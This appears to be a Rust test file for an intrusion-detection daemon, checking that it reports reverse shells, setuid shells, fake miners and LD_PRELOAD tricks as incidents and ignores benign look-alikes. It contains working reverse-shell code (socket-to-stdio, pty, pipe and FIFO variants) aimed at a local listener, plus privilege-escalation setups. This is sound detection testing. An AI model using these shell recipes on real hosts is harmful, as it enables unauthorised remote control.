//! Ways into a host, on the real kernel: shells that commands come to over the network by a terminal, by pipes, or
//! straight; rights, libraries and scripts that nobody installed. Beside each, what looks like it and is none.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use tokio::sync::Mutex;

use crate::daemon::{Daemon, Setup};
use crate::faults::Running;
use crate::requires::{no_kernel_events, skip_if};

const KIND: &str = "suspicious_exec";
const PYTHON: &str = "/usr/bin/python3";

/// Beginnings of Python programs: one whom no build and no test is above, as the account of a service; a connection.
const DETACHED: &str = "import os, sys, time, socket
if os.fork(): os._exit(0)
os.setsid()
me = os.getpid()
if os.fork(): os._exit(0)
while os.getppid() == me: time.sleep(0.01)
";
const CONNECTED: &str = "import os, socket, sys, pty, subprocess
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
";
const ON_STDIO: &str = "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
";

/// Held by whoever has shells told of: of two alike at once, one incident tells.
pub(crate) static SHELLS: Mutex<()> = Mutex::const_new(());

/// Somebody who waits for a shell to call.
struct Attacker(TcpListener);

impl Attacker {
    fn new() -> Self {
        Self(TcpListener::bind("127.0.0.1:0").unwrap())
    }

    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }

    /// Python that connects to us and goes on with `script`.
    fn called_by(&self, script: &str) -> (Running, TcpStream) {
        let running = python(&format!("{CONNECTED}{script}"), &[&self.port().to_string()]);
        let (connection, _) = self.0.accept().unwrap();
        // A test that goes wrong ends.
        connection.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        (running, connection)
    }
}

fn python(script: &str, arguments: &[&str]) -> Running {
    let mut command = Command::new(PYTHON);
    command.arg("-c").arg(script).args(arguments);
    command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
    Running(command.spawn().unwrap())
}

/// Has a shell on the connection say its pid: it takes commands.
fn ask_pid(mut connection: &TcpStream) -> u64 {
    connection.write_all(b"echo pid=$$.\n").unwrap();
    let mut said = String::new();
    loop {
        let mut byte = [0];
        connection.read_exact(&mut byte).unwrap();
        said.push(byte[0].into());
        let pid = said.rsplit_once("pid=").and_then(|(_, rest)| rest.strip_suffix('.')?.parse().ok());
        if let Some(pid) = pid {
            return pid;
        }
    }
}

async fn listed(daemon: &Daemon) -> Vec<serde_json::Value> {
    let list = daemon.get(&format!("/api/v1/incidents?limit=500&kind={KIND}")).await.unwrap();
    // Info is for what may be anything: this host's own init may be one.
    list["incidents"].as_array().unwrap().iter().filter(|it| it["severity"] != "info").cloned().collect()
}

/// The incident of this pid in full, once it is there.
async fn of_pid(daemon: &Daemon, pid: u64) -> serde_json::Value {
    daemon
        .wait_until(&format!("an incident of pid {pid}"), async || {
            let found = listed(daemon).await.into_iter().find(|it| it["process"]["pid"] == pid)?;
            daemon.get(&format!("/api/v1/incidents/{}", found["id"].as_str()?)).await
        })
        .await
}

/// Once this is told of, all that began before it has been looked at.
async fn after_a_marker(daemon: &Daemon) {
    let attacker = Attacker::new();
    let (_shell, connection) = attacker.called_by(&format!("{ON_STDIO}os.execv('/bin/sh', ['sh', '-i'])"));
    of_pid(daemon, ask_pid(&connection)).await;
}

fn facts_of(incident: &serde_json::Value) -> String {
    incident["facts"].to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shell_is_on_the_network_by_whatever_way_its_commands_come() {
    skip_if!(no_kernel_events());
    let _shells = SHELLS.lock().await;
    let data = tempfile::tempdir().unwrap();
    let daemon = Setup::new(data.path()).start();
    let folder = tempfile::tempdir().unwrap();
    let fifo = folder.path().join("f").display().to_string();
    // What nc(1) does.
    let relay = "import os, select, socket, sys, time
time.sleep(0.05)
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
while True:
    for it in select.select([0, s], [], [])[0]:
        data = os.read(0, 4096) if it == 0 else s.recv(4096)
        if not data: os._exit(0)
        s.sendall(data) if it == 0 else os.write(1, data)";
    let relay_file = folder.path().join("nc.py");
    fs::write(&relay_file, relay).unwrap();
    let relay_file = relay_file.display();
    let pipeline = format!(
        "mkfifo {fifo}; cat {fifo} | /bin/bash --norc -i 2>&1 | {PYTHON} {relay_file} $PORT > {fifo}"
    );
    for (what, script, way) in [
        ("pty.spawn", format!("{ON_STDIO}pty.spawn(['/bin/sh', '-i'])"), "terminal"),
        (
            "a pty, as socat makes one",
            "pty.spawn(['/bin/bash', '--norc', '-i'], lambda fd: os.read(fd, 1024) and s.recv(1024))"
                .to_owned(),
            "terminal",
        ),
        (
            "straight",
            format!("{ON_STDIO}os.execv('/bin/bash', ['bash', '--norc', '-i'])"),
            "a network socket",
        ),
        (
            "its parent's pipes",
            "p = subprocess.Popen(['/bin/sh', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
while True: p.stdin.write(s.recv(4096)); p.stdin.flush(); s.sendall(os.read(p.stdout.fileno(), 4096))"
                .to_owned(),
            "pipes",
        ),
        (
            "a FIFO",
            format!(
                "s.close(); os.environ['PORT'] = sys.argv[1]; os.execv('/bin/sh', ['sh', '-c', {pipeline:?}])"
            ),
            "pipes",
        ),
    ] {
        let attacker = Attacker::new();
        let (_running, mut connection) = attacker.called_by(&script);
        if what == "a FIFO" {
            connection = attacker.0.accept().unwrap().0;
        }
        let incident = if what.starts_with("a pty") {
            let peer = format!("\"peer_port\":{}", attacker.port());
            let asked = async || listed(&daemon).await.into_iter().find(|it| it.to_string().contains(&peer));
            daemon.wait_until(what, asked).await
        } else {
            of_pid(&daemon, ask_pid(&connection)).await
        };
        assert_eq!(incident["severity"], "critical", "{what}");
        let facts = facts_of(&incident);
        let peer = format!("127.0.0.1:{}", attacker.port());
        assert!(facts.contains(way) && facts.contains(&peer), "{what}: {facts}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_break_in_is_one_incident() {
    skip_if!(no_kernel_events());
    let _shells = SHELLS.lock().await;
    let data = tempfile::tempdir().unwrap();
    let daemon = Setup::new(data.path()).start();
    let attacker = Attacker::new();
    // A service that listens, and runs what comes.
    let service = format!(
        "l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()
if os.fork() == 0:
    {ON_STDIO}    os.execv('/bin/bash', ['bash', '--norc', '-i'])
os.wait()"
    )
    .replace("2)]\n    os", "2)]\n    os");
    let (_service, mut connection) = attacker.called_by(&service);
    let shell = ask_pid(&connection);
    let script = tempfile::Builder::new().suffix(".sh").tempfile().unwrap();
    fs::write(script.path(), "sh -c date; sleep 0.1\n").unwrap();
    let script = script.path().display();
    let commands = format!("sh {script}; sh -c 'date; date'; bash {script}; {script}\nsh -i\n");
    connection.write_all(commands.as_bytes()).unwrap();
    let pid = ask_pid(&connection);
    assert_ne!(pid, shell, "a shell below it answers by now");
    // Given its command, it takes none from there.
    let (_dated, mut date) =
        Attacker::new().called_by(&format!("{ON_STDIO}os.execv('/bin/sh', ['sh', '-c', 'date'])"));
    date.read_to_string(&mut String::new()).unwrap();
    // A handler of an inetd's, by busybox.
    if Path::new("/usr/bin/busybox").exists() {
        let handler = format!("{ON_STDIO}os.execv('/usr/bin/busybox', ['busybox', 'cat'])");
        let (_handler, mut echo) = Attacker::new().called_by(&handler);
        echo.write_all(b"x").unwrap();
        echo.read_exact(&mut [0]).unwrap();
    }
    after_a_marker(&daemon).await;
    let incident = of_pid(&daemon, shell).await;
    let facts = facts_of(&incident);
    assert!(
        facts.contains("it runs below python3") && facts.contains("which listens on 127.0.0.1:"),
        "{facts}"
    );
    let all = listed(&daemon).await;
    let pids: Vec<_> = all.iter().map(|it| it["process"]["pid"].as_u64().unwrap()).collect();
    assert_eq!(all.len(), 2, "the shell and the marker: {pids:?}, shell {shell}, below it {pid}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_people_and_tools_do_is_no_break_in() {
    skip_if!(no_kernel_events());
    let _shells = SHELLS.lock().await;
    let data = tempfile::tempdir().unwrap();
    let daemon = Setup::new(data.path()).start();
    let attacker = Attacker::new();
    // A terminal without a connection: script(1), tmux, expect.
    let alone = format!("{DETACHED}import pty; pty.spawn(['/bin/sh', '-c', 'sh -i < /dev/tty; sleep 3'])");
    assert!(python(&alone, &[]).wait().status.success());
    // `curl … | sh`: one way alone.
    let download = format!(
        "{PYTHON} -c \"{}print('sleep 1; exit'); s.close()\" {} | sh | cat",
        CONNECTED.replace('\n', ";"),
        attacker.port()
    );
    let install = Command::new("/bin/sh")
        .args(["-c", &download])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(install.success());
    // An agent with many descriptors and a connection, that keeps a shell on pipes.
    let (_agent, _server) = attacker.called_by(
        "files = [open('/dev/null') for _ in range(30)]
p = subprocess.Popen(['/bin/sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE); p.wait()",
    );
    let _pair = attacker.0.accept();
    after_a_marker(&daemon).await;
    // What other tests left to end by itself is no shell.
    let mut all = listed(&daemon).await;
    all.retain(|it| it["process"]["name"] == "sh");
    let what: Vec<_> = all.iter().map(|it| (&it["title"], &it["process"]["argv"])).collect();
    assert_eq!(all.len(), 1, "only the marker: {what:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_nobody_installed_is_told_of() {
    skip_if!(no_kernel_events());
    let _shells = SHELLS.lock().await;
    let data = tempfile::tempdir().unwrap();
    let daemon = Setup::new(data.path()).start();
    let id = std::process::id();
    let folder = tempfile::Builder::new().prefix("break-in").tempdir_in("/var/tmp").unwrap();
    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let shm = |name: &str| PathBuf::from(format!("/dev/shm/{name}-{id}"));
    let (program, script, root_shell) =
        (shm("miner"), shm("e.py"), folder.path().join(format!("rootsh-{id}")));
    fs::copy("/bin/sleep", &program).unwrap();
    fs::write(&script, "import time; time.sleep(3)\n").unwrap();
    fs::copy("/bin/bash", &root_shell).unwrap();
    fs::set_permissions(&root_shell, fs::Permissions::from_mode(0o4755)).unwrap();
    let loader = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
        .into_iter()
        .find(|it| Path::new(it).exists());
    let become_service = format!("{DETACHED}os.setgid(33); os.setuid(33)\n");
    let run = |preface: &str, argv: &[&str], environment: &str| {
        let script = format!("{preface}os.execve(sys.argv[1], sys.argv[1:], {environment})");
        assert!(python(&script, argv).wait().status.success());
    };
    let paths = [&program, &script, &root_shell].map(|it| it.display().to_string());
    run(&become_service, &[&paths[0], "3"], "{}");
    run(&become_service, &[PYTHON, &paths[1]], "{}");
    run(&become_service, &[&paths[2], "-p", "-c", "sleep 3; :"], "{}");
    run(DETACHED, &["/bin/sleep", "3.25"], "{'LD_PRELOAD': '/var/tmp/none.so'}");
    run(DETACHED, &["/bin/sleep", "3.5"], "{'LD_PRELOAD': '/usr/lib/none.so'}");
    if let Some(loader) = loader {
        run(DETACHED, &[loader, &paths[0], "3.75"], "{}");
    }
    for (what, argument, severity) in [
        ("a miner", "3", "warning"),
        ("a script", &*paths[1], "warning"),
        ("a set-user-ID shell", "-p", "critical"),
        ("a library", "3.25", "warning"),
        ("by the dynamic linker", "3.75", "warning"),
    ] {
        if loader.is_none() && argument == "3.75" {
            continue;
        }
        let incident = daemon
            .wait_until(what, async || {
                let has = |it: &serde_json::Value| {
                    it["process"]["argv"].as_array().is_some_and(|argv| argv.iter().any(|it| it == argument))
                };
                listed(&daemon).await.into_iter().find(has)
            })
            .await;
        assert_eq!(incident["severity"], severity, "{what}");
    }
    let all = listed(&daemon).await;
    assert!(!all.iter().any(|it| it.to_string().contains("\"3.5\"")), "a library of the system's: {all:?}");
    for path in [&program, &script] {
        fs::remove_file(path).unwrap();
    }
}
